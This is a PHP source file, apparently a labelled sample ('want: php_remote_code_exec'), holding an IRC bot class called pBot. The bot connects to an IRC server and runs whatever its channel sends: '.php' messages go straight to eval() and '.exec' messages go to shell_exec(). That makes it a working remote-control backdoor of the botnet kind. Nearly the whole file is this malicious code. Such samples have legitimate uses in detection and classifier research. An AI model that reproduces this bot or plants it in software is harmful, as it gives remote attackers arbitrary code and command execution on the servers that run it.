<?php
// An IRC bot runs what its channel says: commands read from a socket.
// want: php_remote_code_exec
class pBot
{
 var $config = array("server"=>"irc.example.org", "port"=>443);
 function start()
 {
    if(!($this->conn = fsockopen($this->config['server'],$this->config['port'],$e,$s,30)))
       $this->start();
    $this->main();
 }
 function main()
 {
    while(!feof($this->conn))
    {
       $this->buf = trim(fgets($this->conn,512));
       $cmd = explode(" ",$this->buf);
       $msg = substr(strstr($this->buf," :"),2);
       $mcmd = explode(" ",$msg);
       switch($mcmd[0])
       {
          case ".php":
             eval(substr(strstr($msg,$mcmd[1]),strlen($mcmd[1])));
          break;
          case ".exec":
             $command = substr(strstr($msg,$mcmd[0]),strlen($mcmd[0])+1);
             $exec = shell_exec($command);
          break;
       }
    }
 }
}
$bot = new pBot;
$bot->start();
